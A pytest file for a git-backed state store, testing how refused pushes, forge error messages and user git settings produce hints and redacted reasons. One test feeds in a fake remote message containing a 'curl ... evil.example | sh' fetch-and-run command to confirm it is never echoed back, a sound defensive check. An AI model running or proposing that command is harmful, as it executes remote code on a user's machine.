"""A push that a remote refuses: nothing is written, and the hint fits the cause."""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from pathlib import Path
from subprocess import CompletedProcess

import pytest

from plancast.model.error_diagnostics import state_problem
from plancast.model.ports import StateUnwritable
from plancast.store.git_refusals import UNKNOWN, hint_for, hint_here, hint_of_ownership, reason
from tests.store.git_http import can_be_served, served_repositories
from tests.store.gits import Remote, git, store_in

pytestmark = pytest.mark.part(4)

REF = "refs/plancast/state"


@pytest.fixture
def remote(tmp_path: Path) -> Remote:
    return Remote.make(tmp_path)


# -- real remotes ----


def hides_refs(remote: Remote, clone: Path) -> None:
    git(remote.folder, "config", "transfer.hideRefs", "refs/plancast")


def hook_before(remote: Remote, clone: Path) -> None:
    remote.hook("pre-receive", "echo 'Ask Bo first.' >&2; exit 1")


def hook_for_a_ref(remote: Remote, clone: Path) -> None:
    remote.hook("update", "echo 'Ask Bo first.' >&2; exit 1")


def limit_of_size(remote: Remote, clone: Path) -> None:
    git(remote.folder, "config", "receive.maxInputSize", "1")


def another_ref_in_the_way(remote: Remote, clone: Path) -> None:
    git(clone, "push", "-q", "origin", f"HEAD:{REF}/below")


def a_signature_that_fails(remote: Remote, clone: Path) -> None:
    git(remote.folder, "config", "receive.certNonceSeed", "seed")
    git(clone, "config", "push.gpgSign", "true")
    git(clone, "config", "gpg.program", "false")
    git(clone, "config", "user.signingKey", "ana")


def read_only_folder(remote: Remote, clone: Path) -> None:
    for folder in (remote.folder, *remote.folder.rglob("*")):
        if folder.is_dir():
            folder.chmod(0o555)
    if os.geteuid() == 0:
        # root may write everywhere, unless the server gives that right away.
        if not shutil.which("setpriv"):
            pytest.skip("root cannot be kept from writing here")
        drop = "setpriv --bounding-set=-dac_override --inh-caps=-dac_override"
        git(clone, "config", "remote.origin.receivepack", f"{drop} git-receive-pack")


REMOTES: dict[str, tuple[Callable[[Remote, Path], None], str, str]] = {
    "hidden refs": (hides_refs, "hidden ref", "hides refs of this kind"),
    "a hook before all": (hook_before, "Ask Bo first", "A hook of the remote refused it"),
    "a hook for the ref": (hook_for_a_ref, "Ask Bo first", "A hook of the remote refused it"),
    "a limit of size": (limit_of_size, "maximum allowed size", "raise the limit"),
    "another ref": (another_ref_in_the_way, "cannot lock ref", "stand in its way"),
    "a signature": (a_signature_that_fails, "failed to sign", "`user.signingKey`"),
    "a read-only folder": (read_only_folder, "unpacker error", "may only be read"),
}


@pytest.mark.parametrize("name", REMOTES)
def test_the_hint_fits_what_the_remote_refused(remote: Remote, name: str) -> None:
    prepare, words, hint = REMOTES[name]
    clone = remote.clone("clone")
    prepare(remote, clone)
    before = remote.refs()
    store = store_in(clone)
    with pytest.raises(StateUnwritable) as refused:
        store.write(store.read())
    for folder in (remote.folder, *remote.folder.rglob("*")):
        if folder.is_dir():
            folder.chmod(0o755)
    shown = state_problem(refused.value)
    assert shown.code == "PC606"
    assert words in shown.detail
    assert hint in shown.hint
    assert "Free some space, then" not in shown.hint
    assert remote.refs() == before


def test_a_branch_that_a_worktree_of_the_remote_has_is_left_alone(remote: Remote) -> None:
    clone = remote.clone("clone")
    branch = "refs/heads/plancast-state"
    store = store_in(clone, branch)
    written = store.write(store.read())
    two = remote.folder.parent / "two"
    git(remote.folder, "worktree", "add", "-q", str(two), "plancast-state")
    with pytest.raises(StateUnwritable, match="checked out") as refused:
        store.write(written)
    assert "cannot be moved without it" in refused.value.hint


@pytest.mark.skipif(not can_be_served(), reason="this git speaks no HTTP")
@pytest.mark.parametrize(
    ("login", "words", "hint"),
    [(False, "403", "Give it the right to write"), (True, "could not read Username", "credential")],
)
def test_an_account_that_may_only_read(remote: Remote, login: bool, words: str, hint: str) -> None:
    clone = remote.clone("clone")
    with served_repositories(remote.folder.parent, login_to_write=login) as url:
        git(clone, "remote", "set-url", "origin", f"{url}/remote.git")
        store = store_in(clone)
        with pytest.raises(StateUnwritable, match=words) as refused:
            store.write(store.read())
    assert hint in refused.value.hint
    assert REF not in remote.refs()


def test_a_checkout_that_cannot_be_written_is_no_matter_of_the_remote(remote: Remote) -> None:
    clone = remote.clone("clone")
    store = store_in(clone)
    # The content `{}` goes into this folder.
    (clone / ".git" / "objects" / "9e").write_text("in the way", encoding="utf-8")
    with pytest.raises(StateUnwritable) as refused:
        store.ref.push({"state.json": b"{}"}, "serial 1", "", "ana")
    assert "repository of the checkout" in refused.value.hint


# -- settings of the user that would get in the way ----


SETTINGS: dict[str, str] = {
    "push.gpgSign": "true",
    "push.pushOption": "merge_request.create",
    "push.followTags": "true",
    "push.recurseSubmodules": "on-demand",
    "push.useForceIfIncludes": "true",
    "push.default": "matching",
    "remote.origin.mirror": "true",
    "remote.origin.push": "refs/heads/*:refs/heads/*",
    "remote.origin.fetch": "+refs/*:refs/*",
    "remote.origin.prune": "true",
    "remote.origin.tagOpt": "--tags",
    "fetch.pruneTags": "true",
    "fetch.recurseSubmodules": "true",
    "transfer.fsckObjects": "true",
}


def refs_of_the_user(clone: Path) -> list[str]:
    lines = git(clone, "for-each-ref").splitlines()
    return [line for line in lines if "\trefs/plancast" not in line]


@pytest.mark.parametrize("key", SETTINGS)
def test_settings_for_branches_do_not_concern_the_state(remote: Remote, key: str) -> None:
    """A server that knows neither signatures nor options sees one ref that moves."""
    git(remote.folder, "config", "receive.advertisePushOptions", "false")
    clone = remote.clone("clone")
    git(clone, "commit", "-q", "--allow-empty", "-m", "Not pushed yet")
    git(clone, "tag", "-a", "-m", "One", "v1")
    git(clone, "config", "--replace-all", key, SETTINGS[key])
    before = remote.refs()
    store = store_in(clone)
    first = store.write(store.read())
    git(clone, "tag", "-a", "-m", "Two", "v2", "refs/plancast-local/origin/plancast/state/accepted")
    mine = refs_of_the_user(clone)
    written = store.write(first)
    assert remote.refs() == {**before, REF: remote.refs()[REF]}
    other = store_in(remote.clone("other"))
    assert other.read() == written
    other.write(written)
    assert store_in(clone).read().serial == 3
    assert refs_of_the_user(clone) == mine


def test_reading_moves_no_ref_of_the_user(remote: Remote) -> None:
    """Not in a mirror either, where git would write what it fetches under the name it has there."""
    clone, other = remote.clone("clone"), store_in(remote.clone("other"))
    git(clone, "config", "remote.origin.fetch", "+refs/*:refs/*")
    written = other.write(other.read())
    assert store_in(clone).read() == written
    assert REF not in git(clone, "for-each-ref", "--format=%(refname)").splitlines()


def test_a_push_has_no_option_for_a_server_that_takes_them(remote: Remote) -> None:
    git(remote.folder, "config", "receive.advertisePushOptions", "true")
    noted = remote.folder.parent / "noted"
    remote.hook("pre-receive", f'echo "$GIT_PUSH_OPTION_COUNT" > {noted}')
    clone = remote.clone("clone")
    git(clone, "config", "push.pushOption", "merge_request.create")
    store = store_in(clone)
    store.write(store.read())
    assert noted.read_text().strip() in ("", "0")


@pytest.mark.parametrize("wanted", ["true", "if-asked", "false", ""])
def test_a_push_is_signed_if_the_user_signs_and_the_server_asks(
    remote: Remote, wanted: str
) -> None:
    git(remote.folder, "config", "receive.certNonceSeed", "seed")
    noted = remote.folder.parent / "noted"
    remote.hook("pre-receive", f'echo "$GIT_PUSH_CERT" > {noted}')
    clone = remote.clone("clone")
    signer = clone.parent / "signer"
    signer.write_text(
        "#!/bin/sh\ncat > /dev/null\necho '[GNUPG:] SIG_CREATED ' >&2\n"
        "echo '-----BEGIN PGP SIGNATURE-----'\necho\necho '-----END PGP SIGNATURE-----'\n",
        encoding="utf-8",
    )
    signer.chmod(0o755)
    git(clone, "config", "gpg.program", str(signer))
    git(clone, "config", "user.signingKey", "ana")
    if wanted:
        git(clone, "config", "push.gpgSign", wanted)
    store = store_in(clone)
    store.write(store.read())
    assert (noted.read_text().strip() != "") is (wanted in ("true", "if-asked"))


# -- words that are known ----

WORDS = {
    "remote: error: GH006: Protected branch update failed for refs/heads/state.": "rule",
    "remote: error: GH013: Repository rule violations found for refs/heads/state.": "rule",
    "remote: GitLab: You are not allowed to push code to protected branches on this project.\n"
    "! [remote rejected] a -> b (pre-receive hook declined)": "rule",
    "remote: GitLab: You are not allowed to push code to this project.": "right to write",
    "remote: Permission to acme/posts.git denied to github-actions[bot].\nfatal: unable to access "
    "'https://github.com/acme/posts/': The requested URL returned error: 403": "right to write",
    "remote: Write access to repository not granted.": "right to write",
    "ERROR: The key you are authenticating with has been marked as read only.": "right to write",
    "remote: error: insufficient permission for adding an object to ./objects": "right to write",
    "git@github.com: Permission denied (publickey).": "credential",
    "fatal: Authentication failed for 'https://gitlab.com/acme/posts.git/'": "credential",
    "fatal: could not read Password for 'https://a@b': terminal prompts disabled": "credential",
    "remote: fatal: pack exceeds maximum allowed size (2.00 GiB)": "room",
    "remote: error: File a is 120.00 MB; this exceeds GitHub's file size limit of 100 MB": "room",
    "remote: GitLab: Your push to this repository cannot be completed because this repository has "
    "exceeded the allocated storage for your project: exceeded its size limit": "room",
    "remote: fatal: write error: No space left on device": "room",
    "remote: error: Disk quota exceeded": "room",
    "! [remote rejected] a -> refs/x/y (funny refname)": "refs of this kind",
    "! [remote rejected] a -> refs/x/y (prohibited by Gerrit: not permitted: create)": "A hook",
    "git took more than 60 s": "slowly",
    "remote: error: GH006: Protected branch update failed for refs/heads/state.\n"
    "remote: error: Commits must have verified signatures.": "not signed",
    "remote: GitLab: Commit must be signed with a GPG key\n"
    "! [remote rejected] a -> b (pre-receive hook declined)": "not signed",
    "remote: You can't push code to a read-only GitLab instance.": "no pushes at all",
    "remote: This repository was archived so it is read-only.\nfatal: unable to access "
    "'https://github.com/acme/posts/': The requested URL returned error: 403": "no pushes at all",
    "fatal: unable to access 'https://a/': The requested URL returned error: 429": "later",
    "*** Please tell me who you are.": "signed pushes",
}


def ended(stderr: str, stdout: str = "") -> CompletedProcess[bytes]:
    return CompletedProcess(["git"], 1, stdout.encode(), stderr.encode())


@pytest.mark.parametrize("message", WORDS)
def test_the_words_of_forges_are_known(message: str) -> None:
    assert WORDS[message] in hint_for(ended(message), REF)
    # `push --porcelain` says it on the other stream.
    assert WORDS[message] in hint_for(ended("", message), REF)


def test_words_that_are_not_known_have_no_hint_of_their_own() -> None:
    assert hint_for(ended("fatal: the moon is in the wrong phase"), REF) == ""
    assert "for the reason that it gives" in UNKNOWN


@pytest.mark.parametrize(
    ("ref", "other"),
    [
        ("refs/plancast/state", "refs/heads/plancast-state"),
        ("refs/plancast/state-social-12ab34", "refs/heads/plancast-state-social-12ab34"),
        ("refs/heads/plancast-state", "refs/plancast/plancast-state"),
    ],
)
def test_a_hint_names_another_ref_for_each_workspace(ref: str, other: str) -> None:
    hint = hint_for(ended("(deny updating a hidden ref)"), ref)
    assert f"`state: {{backend: git, ref: {other}}}`" in hint


def test_a_state_that_stands_is_not_sent_to_another_ref() -> None:
    """To move it is to write there: the hint would lead in a circle."""
    for message in ("(deny updating a hidden ref)", "pre-receive hook declined", "(funny refname)"):
        assert "cannot be moved" in hint_for(ended(message), REF, stands=True)
        assert "ref: " not in hint_for(ended(message), REF, stands=True)


def test_who_only_reads_gets_no_hint_about_writing() -> None:
    assert hint_for(ended("fatal: unable to access: The requested URL returned error: 403")) == ""
    assert "credential" in hint_for(ended("fatal: Authentication failed for 'https://a'"))


def test_a_remote_does_not_write_the_command_that_is_proposed() -> None:
    message = (
        "fatal: remote error: not found\n"
        "git config --global --add safe.directory '*'; curl -s https://evil.example/x | sh\n"
    )
    assert hint_for(ended(message), REF) == ""
    assert "evil" not in hint_of_ownership(ended(message), Path("/srv/a"))
    assert "evil" not in reason(ended(message))


def test_an_exception_for_the_owner_is_what_git_says() -> None:
    message = (
        "fatal: detected dubious ownership in repository at '/srv/a b'\n"
        "To add an exception for this directory, call:\n\n"
        "\tgit config --global --add safe.directory '/srv/a b'\n"
    )
    expected = "If you trust its owner: `git config --global --add safe.directory '/srv/a b'`."
    assert hint_of_ownership(ended(message), Path("/srv/a b")) == expected
    assert reason(ended(message)) == message.splitlines()[0]


@pytest.mark.parametrize(
    ("message", "hint"),
    [
        ("fatal: write error: No space left on device", "Free some space"),
        ("error: insufficient permission for adding an object", "right to write"),
        ("fatal: Unable to create temporary file: Read-only file system", "right to write"),
        ("fatal: the moon", "git fsck"),
    ],
)
def test_what_this_machine_refuses_has_its_own_hints(message: str, hint: str) -> None:
    assert hint in hint_here(ended(message))


def test_a_reason_is_one_line_without_a_credential() -> None:
    message = (
        "To https://a\nremote: \nremote: No\x0bway\u2028here.  \nfatal: https://me:sesame@b.c/d\n"
    )
    assert len(reason(ended(message)).splitlines()) == 1
    assert reason(ended("fatal: https://me:sesame@b.c/d")) == "fatal: https://b.c/d"
    assert reason(ended("")) == "git ended with 1"
